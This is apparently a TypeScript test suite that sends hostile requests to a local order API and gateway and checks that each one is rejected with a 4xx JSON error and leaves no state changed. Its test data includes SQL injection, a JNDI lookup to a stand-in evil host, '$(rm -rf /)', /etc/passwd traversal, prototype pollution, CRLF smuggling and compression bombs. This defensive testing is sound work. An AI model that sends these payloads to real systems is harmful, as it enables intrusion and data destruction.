import http from 'node:http';
import net from 'node:net';
import type { Server } from 'node:http';
import { gzipSync, deflateSync } from 'node:zlib';
import request from 'supertest';
import { SERVICE_TOKENS, startServices, type ServiceStack } from './support/services';
import { connectTemporal, startWorker, type RunningWorker, type TemporalHarness } from './support/temporal';
import { ADDRESS, GOOD_CARD, putProduct } from './support/fixtures';
import { fingerprint, type Fingerprint } from './support/http-checks';
import { TEST_TOKEN, createTestApi, orderBody } from './support/api';
import { createGatewayApp } from '../gateway/app';
import { OrderCoordinator } from '../gateway/coordinator';
import { createLogger } from '../lib/logger';
import { listenWithJsonErrors } from '../lib/http/http-guards';
import { boundPort, closeServer } from '../lib/service';

/**
 * The adversarial sweep of issue 10 as a suite: for every route of the API and of the gateway, a
 * table of hostile request classes. Every answer must be a 4xx with the JSON error shape (never a
 * 5xx, never an empty body), and nothing may change: no workflow started (counted through
 * visibility on the suite's task queue) and no row of the four service databases written
 * (checksums). Both apps run on real sockets, so Node's own HTTP parser is part of what is tested.
 */

const logger = createLogger('hostile', 'silent');
const BEARER = `Bearer ${TEST_TOKEN}`;

let stack: ServiceStack;
let t: TemporalHarness;
let worker: RunningWorker;
let coordinator: OrderCoordinator;
const servers: Server[] = [];
let api: string;
let gateway: string;
let sku: string;
/** A saga that completed before the sweep (operator routes on it are state conflicts, not news). */
let doneSagaId: string;

beforeAll(async () => {
  stack = await startServices('hostile');
  t = await connectTemporal('hostile');
  worker = await startWorker(t, stack, { httpTimeoutMs: 2000 });
  const apiServer = await listenWithJsonErrors(createTestApi(t, { dbPrefix: stack.prefix }).app, 0, '127.0.0.1');
  coordinator = new OrderCoordinator({
    urls: stack.urls,
    httpTimeoutMs: 2000,
    httpConnections: 8,
    serviceToken: SERVICE_TOKENS.gateway,
    logger,
  });
  const gatewayServer = await listenWithJsonErrors(
    createGatewayApp({ coordinator, logger, apiToken: TEST_TOKEN }),
    0,
    '127.0.0.1',
  );
  servers.push(apiServer, gatewayServer);
  api = `http://127.0.0.1:${boundPort(apiServer)}`;
  gateway = `http://127.0.0.1:${boundPort(gatewayServer)}`;
  sku = await putProduct(stack, { available: 1000, priceCents: 400 });
  const done = await request(api)
    .post('/orders')
    .query({ wait: 'true' })
    .set('Authorization', BEARER)
    .send(orderBody(sku));
  expect(done.body.status).toBe('COMPLETED');
  doneSagaId = done.body.sagaId;
});
afterAll(async () => {
  for (const s of servers) await closeServer(s);
  await coordinator?.close();
  await worker?.stop();
  await t?.close();
  await stack?.stop();
});

// ---------------------------------------------------------------------------------------------
// The routes

interface Route {
  app: 'api' | 'gateway';
  method: 'GET' | 'POST';
  /** The path with valid parameters. */
  path: () => string;
  /** A body the route accepts (POST routes). */
  body?: () => Record<string, unknown>;
  /** Behind the bearer token. */
  protected: boolean;
  /** Path with a hostile parameter in its place (routes that take one). */
  withParam?: (raw: string) => string;
}

const ROUTES: Record<string, Route> = {
  'API POST /orders': {
    app: 'api',
    method: 'POST',
    path: () => '/orders',
    body: () => orderBody(sku),
    protected: true,
  },
  'API POST /products/:sku/rename': {
    app: 'api',
    method: 'POST',
    path: () => `/products/${sku}/rename`,
    body: () => ({ name: 'Renamed' }),
    protected: true,
    withParam: (raw) => `/products/${raw}/rename`,
  },
  'API GET /sagas': { app: 'api', method: 'GET', path: () => '/sagas', protected: true },
  'API GET /sagas/:sagaId': {
    app: 'api',
    method: 'GET',
    path: () => `/sagas/${doneSagaId}`,
    protected: true,
    withParam: (raw) => `/sagas/${raw}`,
  },
  'API POST /sagas/:sagaId/cancel': {
    app: 'api',
    method: 'POST',
    path: () => `/sagas/${doneSagaId}/cancel`,
    protected: true,
    withParam: (raw) => `/sagas/${raw}/cancel`,
  },
  'API POST /sagas/:sagaId/retry-compensation': {
    app: 'api',
    method: 'POST',
    path: () => `/sagas/${doneSagaId}/retry-compensation`,
    protected: true,
    withParam: (raw) => `/sagas/${raw}/retry-compensation`,
  },
  'API POST /sagas/:sagaId/resolve': {
    app: 'api',
    method: 'POST',
    path: () => `/sagas/${doneSagaId}/resolve`,
    body: () => ({ note: 'handled' }),
    protected: true,
    withParam: (raw) => `/sagas/${raw}/resolve`,
  },
  'API GET /audit': { app: 'api', method: 'GET', path: () => '/audit', protected: true },
  'API GET /healthz': { app: 'api', method: 'GET', path: () => '/healthz', protected: false },
  'API GET /openapi.json': { app: 'api', method: 'GET', path: () => '/openapi.json', protected: false },
  'API GET /metrics': { app: 'api', method: 'GET', path: () => '/metrics', protected: false },
  'gateway POST /orders': {
    app: 'gateway',
    method: 'POST',
    path: () => '/orders',
    body: () => orderBody(sku),
    protected: true,
  },
  'gateway GET /healthz': { app: 'gateway', method: 'GET', path: () => '/healthz', protected: false },
};
const routes = Object.entries(ROUTES);
const bodyRoutes = routes.filter(([, r]) => r.body);
const paramRoutes = routes.filter(([, r]) => r.withParam);
const protectedRoutes = routes.filter(([, r]) => r.protected);
const base = (r: Route) => (r.app === 'api' ? api : gateway);

// ---------------------------------------------------------------------------------------------
// What every answer must be, and what must not change

interface Answer {
  status: number;
  contentType: string;
  body: unknown;
  text: string;
}

/** Problems with an answer that must be a 4xx JSON error (the `{ error: { code, message } }` shape). */
function problemsOf(label: string, a: Answer, expected?: number | number[]): string[] {
  const out: string[] = [];
  const statuses = expected === undefined ? undefined : Array.isArray(expected) ? expected : [expected];
  if (a.status < 400 || a.status >= 500) out.push(`${label}: status ${a.status} (${a.text.slice(0, 200)})`);
  else if (statuses && !statuses.includes(a.status))
    out.push(`${label}: status ${a.status}, expected ${statuses.join('/')} (${a.text.slice(0, 200)})`);
  if (!/application\/json/.test(a.contentType)) out.push(`${label}: content-type ${a.contentType || '(none)'}`);
  const err = (a.body as { error?: { code?: unknown; message?: unknown } } | undefined)?.error;
  if (typeof err?.code !== 'string' || typeof err?.message !== 'string' || err.message.length === 0)
    out.push(`${label}: not the JSON error shape: ${a.text.slice(0, 200)}`);
  return out;
}

async function viaSupertest(test: request.Test): Promise<Answer> {
  const res = await test;
  return {
    status: res.status,
    contentType: String(res.headers['content-type'] ?? ''),
    body: res.body,
    text: res.text ?? '',
  };
}

/** Sends bytes as they are (for what supertest would normalise or refuse) and parses the answer. */
function raw(url: string, bytes: Buffer | string): Promise<Answer> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    // written, not ended: a half-close would read to the server as a truncated request
    const socket = net.connect(Number(port), hostname, () => socket.write(bytes));
    socket.setTimeout(5000, () => socket.destroy());
    const chunks: Buffer[] = [];
    socket.on('data', (c: Buffer) => chunks.push(c));
    socket.on('error', reject);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const [head = '', ...rest] = text.split('\r\n\r\n');
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0);
      const contentType = /\r\ncontent-type: ([^\r\n]*)/i.exec(head)?.[1] ?? '';
      let bodyText = rest.join('\r\n\r\n');
      if (/\r\ntransfer-encoding: chunked/i.test(head))
        bodyText = bodyText.replace(/^[0-9a-f]+\r\n/i, '').replace(/\r\n0\r\n\r\n$/, '');
      let body: unknown;
      try {
        body = JSON.parse(bodyText);
      } catch {
        body = undefined;
      }
      resolve({ status, contentType, body, text: text.slice(0, 400) });
    });
  });
}

/** POSTs `body` byte for byte (supertest would JSON-encode a Buffer sent as application/json). */
function postBytes(route: Route, headers: Record<string, string>, body: Buffer): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      `${base(route)}${route.path()}`,
      { method: 'POST', headers: { authorization: BEARER, 'content-length': String(body.length), ...headers } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let parsed: unknown;
          try {
            parsed = JSON.parse(text);
          } catch {
            parsed = undefined;
          }
          resolve({
            status: res.statusCode ?? 0,
            contentType: String(res.headers['content-type'] ?? ''),
            body: parsed,
            text,
          });
        });
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

async function workflowCount(): Promise<number> {
  const resp = await t.client.workflowService.countWorkflowExecutions({
    namespace: 'default',
    query: `TaskQueue = '${t.taskQueue}'`,
  });
  return Number(resp.count ?? 0);
}

async function footprint(): Promise<{ workflows: number; databases: Record<string, Fingerprint> }> {
  const databases: Record<string, Fingerprint> = {};
  for (const svc of stack.all) databases[svc.name] = await fingerprint(svc);
  return { workflows: await workflowCount(), databases };
}

/** A hostile case: sends one request, returns the answer and the statuses it may have (any 4xx when absent). */
interface Case {
  label: string;
  send: () => Promise<Answer>;
  expect?: number | number[];
}

/** Runs every case (a few at a time), then asserts: all 4xx JSON, and nothing started or written. */
async function sweep(cases: Case[]): Promise<void> {
  expect(cases.length).toBeGreaterThan(0);
  const before = await footprint();
  const problems: string[] = [];
  for (let i = 0; i < cases.length; i += 8) {
    const batch = cases.slice(i, i + 8);
    const answers = await Promise.all(
      batch.map((c) =>
        c.send().catch((err: Error) => ({
          status: 0,
          contentType: '',
          body: undefined,
          text: `request failed: ${err.message}`,
        })),
      ),
    );
    answers.forEach((a, j) => problems.push(...problemsOf(batch[j]!.label, a, batch[j]!.expect)));
  }
  expect(problems).toEqual([]);
  expect(await footprint()).toEqual(before);
  // nothing was polluted in this process either
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect((Object.prototype as unknown as Record<string, unknown>).isAdmin).toBeUndefined();
}

/** A request to `route` with the valid token, optionally another path, then `build`. */
function call(
  route: Route,
  build: (r: request.Test) => request.Test = (r) => r,
  path = route.path(),
): () => Promise<Answer> {
  return () => {
    const agent = request(base(route));
    const req = route.method === 'GET' ? agent.get(path) : agent.post(path);
    return viaSupertest(build(req.set('Authorization', BEARER)));
  };
}

/** Sends `body` as the raw JSON text of a POST to a body route. */
const sendText =
  (text: string | Buffer, contentType = 'application/json') =>
  (r: request.Test) =>
    r.set('Content-Type', contentType).send(text as string);

// ---------------------------------------------------------------------------------------------
// The classes

let built: { gzip: Buffer; gzipJson: Buffer; deflate: Buffer } | undefined;
/** Compression bombs, built once: 50 MB of spaces (~50 kB gzipped), a 20 MB JSON string, 50 MB deflated. */
function bombs() {
  built ??= {
    gzip: gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20)),
    gzipJson: gzipSync(Buffer.from(`{"a":"${'A'.repeat(20 * 1024 * 1024)}"}`)),
    deflate: deflateSync(Buffer.alloc(50 * 1024 * 1024, 0x20)),
  };
  return built;
}

const deepArray = '['.repeat(5000) + ']'.repeat(5000);
const deepObject = '{"a":'.repeat(3000) + '1' + '}'.repeat(3000);
const injections = [
  `' OR '1'='1`,
  `x'; DROP TABLE orders; --`,
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '$(rm -rf /)',
  '%00',
  'a\u0000b',
  '../../etc/passwd',
];
const badText = [
  'a\u0000b',
  'line1\r\nSet-Cookie: x=1',
  'a\nb',
  'pay\u202Eevil',
  'iso\u2066late',
  'lone \ud800 surrogate',
  'lone \udfff low',
  'tab\there',
  'bell\u0007',
  'c1 \u0085 next line',
  'ls \u2028 sep',
];

const CLASSES: Record<string, () => Case[]> = {
  'malformed bodies': () =>
    bodyRoutes.flatMap(([name, r]) =>
      [
        ['truncated JSON', '{"customerId": "c1",', 400],
        ['a lone brace', '{', 400],
        ['null', 'null', 400],
        ['a bare string', '"hello"', 400],
        ['a number', '42', 400],
        ['an array of the valid body', JSON.stringify([r.body!()]), 400],
        ['trailing garbage', `${JSON.stringify(r.body!())}xyz`, 400],
        ['two objects', `${JSON.stringify(r.body!())}${JSON.stringify(r.body!())}`, 400],
        ['single quotes', `{'customerId':'c1'}`, 400],
        ['a comment', `{/* hi */"a":1}`, 400],
        ['NaN', '{"a":NaN}', 400],
        [
          'invalid UTF-8',
          Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]),
          400,
        ],
        ['an empty object', '{}', 400],
        ['a UTF-16 body labelled utf-8', Buffer.from(JSON.stringify(r.body!()), 'utf16le'), 400],
      ].map(([what, text, status]) => ({
        label: `${name}: ${what as string}`,
        send: () =>
          postBytes(
            r,
            { 'content-type': 'application/json' },
            Buffer.isBuffer(text) ? text : Buffer.from(text as string),
          ),
        expect: status as number,
      })),
    ),

  'huge bodies': () =>
    bodyRoutes.flatMap(([name, r]) => [
      {
        label: `${name}: 70 kB padding field`,
        send: call(r, (q) => q.send({ ...r.body!(), padding: 'x'.repeat(70 * 1024) })),
        expect: 413,
      },
      {
        label: `${name}: 2 MB of JSON`,
        send: call(r, sendText(JSON.stringify({ ...r.body!(), padding: 'y'.repeat(2 * 1024 * 1024) }))),
        expect: 413,
      },
      {
        label: `${name}: 60 kB field (under the limit)`,
        send: call(r, (q) => q.send({ ...r.body!(), extra: 'z'.repeat(60 * 1024) })),
        expect: 400,
      },
      { label: `${name}: 100 000 array items`, send: call(r, sendText(`[${'1,'.repeat(30_000)}1]`)), expect: 400 },
      {
        // the rest of the body reads as a second (garbage) request on the connection
        label: `${name}: a Content-Length smaller than the body`,
        send: () =>
          raw(
            base(r),
            `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 5\r\nConnection: close\r\n\r\n${JSON.stringify(r.body!())}`,
          ),
        expect: 400,
      },
    ]),

  'compression bombs': () =>
    bodyRoutes.flatMap(([name, r]) => {
      const bomb = bombs().gzip;
      const jsonBomb = bombs().gzipJson;
      const deflated = bombs().deflate;
      const json = Buffer.from(JSON.stringify(r.body!()));
      const encoded = (encoding: string, body: Buffer) => () =>
        postBytes(r, { 'content-type': 'application/json', 'content-encoding': encoding }, body);
      return [
        { label: `${name}: gzip of 50 MB`, send: encoded('gzip', bomb), expect: 413 },
        { label: `${name}: gzip of a 20 MB JSON string`, send: encoded('gzip', jsonBomb), expect: 413 },
        { label: `${name}: deflate of 50 MB`, send: encoded('deflate', deflated), expect: 413 },
        { label: `${name}: gzip header on plain JSON`, send: encoded('gzip', json), expect: 400 },
        { label: `${name}: truncated gzip`, send: encoded('gzip', gzipSync(json).subarray(0, 20)), expect: 400 },
        { label: `${name}: an unknown encoding`, send: encoded('zstd', json), expect: 415 },
        { label: `${name}: gzip twice`, send: encoded('gzip, gzip', gzipSync(gzipSync(json))), expect: 415 },
      ];
    }),

  'deep nesting': () =>
    bodyRoutes.flatMap(([name, r]) => [
      { label: `${name}: 5000 nested arrays`, send: call(r, sendText(deepArray)), expect: 400 },
      { label: `${name}: 3000 nested objects`, send: call(r, sendText(deepObject)), expect: 400 },
      {
        label: `${name}: a nested object in a string field`,
        send: call(r, sendText(JSON.stringify(r.body!()).replace(/:"[^"]*"/, `:${deepObject}`))),
        expect: 400,
      },
    ]),

  'prototype pollution': () =>
    bodyRoutes.flatMap(([name, r]) => {
      const valid = JSON.stringify(r.body!()).slice(1, -1);
      return [
        ['__proto__ at the top', `{"__proto__":{"polluted":true,"isAdmin":true},${valid}}`],
        ['constructor.prototype at the top', `{"constructor":{"prototype":{"polluted":true}},${valid}}`],
        ['prototype at the top', `{"prototype":{"isAdmin":true},${valid}}`],
        // later keys win in JSON.parse: these replace the valid body's own objects
        [
          '__proto__ in the payment',
          JSON.stringify(r.body!()).replace(
            /\}$/,
            ',"payment":{"__proto__":{"polluted":true},"cardNumber":"4242424242424242"}}',
          ),
        ],
        [
          '__proto__ in the address',
          JSON.stringify(r.body!()).replace(
            /\}$/,
            `,"shippingAddress":{"__proto__":{"isAdmin":true},${JSON.stringify(ADDRESS).slice(1)}}`,
          ),
        ],
        [
          '__proto__ in an item',
          JSON.stringify(r.body!()).replace(
            /\}$/,
            `,"items":[{"__proto__":{"quantity":5},"sku":"${sku}","quantity":1}]}`,
          ),
        ],
        [
          'constructor in an item',
          JSON.stringify(r.body!()).replace(
            /\}$/,
            `,"items":[{"constructor":{"prototype":{"polluted":1}},"sku":"${sku}","quantity":1}]}`,
          ),
        ],
      ].map(([what, text]) => ({ label: `${name}: ${what}`, send: call(r, sendText(text!)), expect: 400 }));
    }),

  'injection strings': () => [
    ...paramRoutes.flatMap(([name, r]) =>
      injections.map((s) => ({
        label: `${name}: path param ${JSON.stringify(s)}`,
        send: call(r, (q) => q, r.withParam!(encodeURIComponent(s))),
        expect: [400, 404],
      })),
    ),
    ...injections.flatMap((s) => [
      {
        label: `API POST /orders: customerId ${JSON.stringify(s)}`,
        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { customerId: s }))),
        expect: 400,
      },
      {
        label: `API POST /orders: sku ${JSON.stringify(s)}`,
        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(s))),
        expect: 400,
      },
      {
        label: `gateway POST /orders: sku ${JSON.stringify(s)}`,
        send: call(ROUTES['gateway POST /orders']!, (q) => q.send(orderBody(s))),
        expect: 400,
      },
      {
        label: `API POST /orders: cardNumber ${JSON.stringify(s)}`,
        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { payment: { cardNumber: s } }))),
        expect: 400,
      },
      {
        label: `API GET /sagas: status ${JSON.stringify(s)}`,
        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ status: `COMPLETED${s}` })),
        expect: 400,
      },
      {
        label: `API GET /sagas: type ${JSON.stringify(s)}`,
        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ type: `PlaceOrder${s}` })),
        expect: 400,
      },
      {
        label: `API GET /sagas: pageToken ${JSON.stringify(s)}`,
        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ pageToken: s })),
        expect: 400,
      },
      {
        label: `API GET /sagas: limit ${JSON.stringify(s)}`,
        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ limit: `5${s}` })),
        expect: 400,
      },
    ]),
    // free text that other systems display: control, line-break and bidi-override characters, lone surrogates
    ...badText.flatMap((s) =>
      (['name', 'line1', 'city', 'postalCode'] as const).flatMap((field) => [
        {
          label: `API POST /orders: address ${field} ${JSON.stringify(s)}`,
          send: call(
            ROUTES['API POST /orders']!,
            sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } }))),
          ),
          expect: 400,
        },
        {
          label: `gateway POST /orders: address ${field} ${JSON.stringify(s)}`,
          send: call(
            ROUTES['gateway POST /orders']!,
            sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } }))),
          ),
          expect: 400,
        },
      ]),
    ),
    ...badText.map((s) => ({
      label: `API rename: name ${JSON.stringify(s)}`,
      send: call(ROUTES['API POST /products/:sku/rename']!, sendText(JSON.stringify({ name: s }))),
      expect: 400,
    })),
    ...badText.map((s) => ({
      label: `API resolve: note ${JSON.stringify(s)}`,
      send: call(ROUTES['API POST /sagas/:sagaId/resolve']!, sendText(JSON.stringify({ note: s, operator: s }))),
      expect: 400,
    })),
    {
      label: 'API POST /orders: a lone surrogate escaped in JSON',
      send: call(
        ROUTES['API POST /orders']!,
        sendText(JSON.stringify(orderBody(sku)).replace('"Ada Lovelace"', '"Ada \\ud800"')),
      ),
      expect: 400,
    },
  ],

  'path traversal': () => [
    ...paramRoutes.flatMap(([name, r]) =>
      [
        '..%2F..%2Fetc%2Fpasswd',
        '%2e%2e',
        'order-..%2F..%2Faudit',
        'order-x%00',
        '%252e%252e%252f',
        'order-%E2%80%AE',
        'order-x%2Fcancel',
        'order-' + 'x'.repeat(300),
      ].map((p) => ({
        label: `${name}: ${p.slice(0, 40)}`,
        send: call(r, (q) => q, r.withParam!(p)),
        expect: [400, 404],
      })),
    ),
    ...['api', 'gateway'].flatMap((app) =>
      [
        '/../../etc/passwd',
        '/sagas/../audit',
        '/%2e%2e/%2e%2e/etc/passwd',
        '/orders/..;/audit',
        '//orders',
        '/orders%00',
        '/ORDERS',
        '/.env',
        '/admin/faults',
      ].map((p) => ({
        label: `${app} raw path ${p}`,
        send: () =>
          raw(
            app === 'api' ? api : gateway,
            `DELETE ${p} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`,
          ),
        expect: [400, 404, 405],
      })),
    ),
  ],

  'header and auth variants': () => [
    ...protectedRoutes.flatMap(([name, r]) =>
      [
        ['no Authorization', undefined],
        ['an empty bearer', 'Bearer '],
        ['Bearer only', 'Bearer'],
        ['the token without Bearer', TEST_TOKEN],
        ['Basic with the token', `Basic ${Buffer.from(`x:${TEST_TOKEN}`).toString('base64')}`],
        ['the token one character short', `Bearer ${TEST_TOKEN.slice(0, -1)}`],
        ['the token with a suffix', `Bearer ${TEST_TOKEN}x`],
        ['the token twice', `Bearer ${TEST_TOKEN} ${TEST_TOKEN}`],
        ['a 7 kB token', `Bearer ${'t'.repeat(7000)}`],
        ['the token upper-cased', `Bearer ${TEST_TOKEN.toUpperCase()}`],
      ].map(([what, header]) => ({
        label: `${name}: ${what}`,
        send: () => {
          const agent = request(base(r));
          let q = r.method === 'GET' ? agent.get(r.path()) : agent.post(r.path());
          if (header !== undefined) q = q.set('Authorization', header);
          return viaSupertest(r.body ? q.send(r.body()) : q);
        },
        expect: 401,
      })),
    ),
    ...protectedRoutes.map(([name, r]) => ({
      label: `${name}: the token in the query string`,
      send: () =>
        viaSupertest(request(base(r))[r.method === 'GET' ? 'get' : 'post'](`${r.path()}?access_token=${TEST_TOKEN}`)),
      expect: 401,
    })),
    ...protectedRoutes.map(([name, r]) => ({
      label: `${name}: the token in a second Authorization header`,
      send: () =>
        raw(
          base(r),
          `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\nAuthorization: ${BEARER}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
        ),
      expect: 401,
    })),
    ...bodyRoutes.flatMap(([name, r]) =>
      [
        ['an Idempotency-Key of 201 characters', 'k'.repeat(201)],
        ['an Idempotency-Key with a space', 'a b'],
        ['an Idempotency-Key with a tab', 'a\tb'],
        ['an Idempotency-Key with non-ASCII', 'clé'],
        ['an empty Idempotency-Key', ''],
        // resolve takes no Idempotency-Key: it ignores it and answers for the saga (a state conflict)
      ].map(([what, key]) => ({
        label: `${name}: ${what}`,
        send: call(r, (q) => q.set('Idempotency-Key', key!).send(r.body!())),
        expect: name.endsWith('/resolve') ? 409 : 400,
      })),
    ),
    ...bodyRoutes.map(([name, r]) => ({
      label: `${name}: CR/LF smuggled into a header`,
      send: () =>
        raw(
          base(r),
          `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nIdempotency-Key: a\rb\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
        ),
      expect: 400,
    })),
    ...routes.map(([name, r]) => ({
      label: `${name}: 40 kB of headers`,
      send: () =>
        raw(
          base(r),
          `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nX-Pad: ${'p'.repeat(40 * 1024)}\r\nConnection: close\r\n\r\n`,
        ),
      expect: 431,
    })),
    ...routes.map(([name, r]) => ({
      label: `${name}: an unknown method`,
      send: () => raw(base(r), `FOO ${r.path()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`),
      expect: 400,
    })),
    ...routes.map(([name, r]) => ({
      label: `${name}: a malformed request line`,
      send: () => raw(base(r), `${r.method} ${r.path()} HTTP/9.9 extra\r\n\r\n`),
      expect: 400,
    })),
    ...routes.map(([name, r]) => ({
      label: `${name}: no Host header`,
      send: () =>
        raw(base(r), `${r.method} ${r.path()} HTTP/1.1\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`),
      expect: 400,
    })),
    ...routes.flatMap(([name, r]) =>
      (['PUT', 'DELETE', 'PATCH'] as const).map((m) => ({
        label: `${name}: ${m}`,
        send: () =>
          viaSupertest(
            request(base(r))[m.toLowerCase() as 'put' | 'delete' | 'patch'](r.path()).set('Authorization', BEARER),
          ),
        expect: 405,
      })),
    ),
  ],

  'wrong content types': () =>
    bodyRoutes.flatMap(([name, r]) =>
      [
        ['text/plain', 'text/plain', 415],
        ['a form', 'application/x-www-form-urlencoded', 415],
        ['multipart', 'multipart/form-data; boundary=x', 415],
        ['XML', 'application/xml', 415],
        ['no content type', '', 415],
        // body-parser decodes utf-16 as labelled: UTF-8 bytes under that label are not JSON
        ['UTF-8 bytes labelled UTF-16', 'application/json; charset=utf-16', 415],
        ['JSON in a made-up charset', 'application/json; charset=klingon', 415],
        ['octet-stream', 'application/octet-stream', 415],
      ].map(([what, type, status]) => ({
        label: `${name}: ${what as string}`,
        send: () =>
          postBytes(r, type ? { 'content-type': type as string } : {}, Buffer.from(JSON.stringify(r.body!()))),
        expect: status as number,
      })),
    ),
};

describe('hostile input to every route of the API and the gateway', () => {
  test.each(Object.keys(CLASSES))(
    'when the routes get %s, then every answer is a 4xx JSON error and nothing starts or changes',
    async (cls) => {
      await sweep(CLASSES[cls]!());
    },
  );

  test('when twenty requests race with one Idempotency-Key and different bodies, then exactly one saga starts and the rest are 202 for it or 422, never 5xx', async () => {
    const before = await workflowCount();
    const key = `race-${Date.now()}`;
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        request(api)
          .post('/orders')
          .set('Authorization', BEARER)
          .set('Idempotency-Key', key)
          .send(orderBody(sku, { customerId: `racer-${i % 4}`, payment: { cardNumber: GOOD_CARD } })),
      ),
    );
    expect(answers.filter((a) => a.status >= 500)).toEqual([]);
    const accepted = answers.filter((a) => a.status === 202);
    expect(new Set(accepted.map((a) => a.body.sagaId)).size).toBe(1);
    for (const a of answers.filter((x) => x.status !== 202)) expect(a.body.error.code).toBe('IDEMPOTENCY_KEY_REUSED');
    await t.client.workflow.getHandle(accepted[0]!.body.sagaId).result();
    let count = await workflowCount();
    for (let i = 0; i < 25 && count < before + 1; i++) {
      await new Promise((r) => setTimeout(r, 200));
      count = await workflowCount();
    }
    expect(count).toBe(before + 1);
  });

  test('when twenty gateway requests race with one Idempotency-Key and different addresses, then one order exists, never 5xx', async () => {
    const key = `gw-race-${Date.now()}`;
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        request(gateway)
          .post('/orders')
          .set('Authorization', BEARER)
          .set('Idempotency-Key', key)
          .send(orderBody(sku, { shippingAddress: { ...ADDRESS, city: `City ${i % 3}` } })),
      ),
    );
    expect(answers.filter((a) => a.status >= 500).map((a) => a.text)).toEqual([]);
    const orderIds = new Set(answers.filter((a) => a.status === 200).map((a) => a.body.orderId));
    expect(orderIds.size).toBe(1);
    const [row] = await stack.orders.query<{ n: number }>('SELECT COUNT(*) AS n FROM orders WHERE order_id = ?', [
      [...orderIds][0],
    ]);
    expect(Number(row!.n)).toBe(1);
  });

  test('when a client disconnects mid-body, then the servers keep answering', async () => {
    for (const url of [api, gateway]) {
      const { hostname, port } = new URL(url);
      await new Promise<void>((resolve) => {
        const s = net.connect(Number(port), hostname, () => {
          s.write(
            `POST /orders HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"customerId":`,
          );
          s.destroy();
          resolve();
        });
      });
      expect((await request(url).get('/healthz')).status).toBe(200);
    }
  });
});
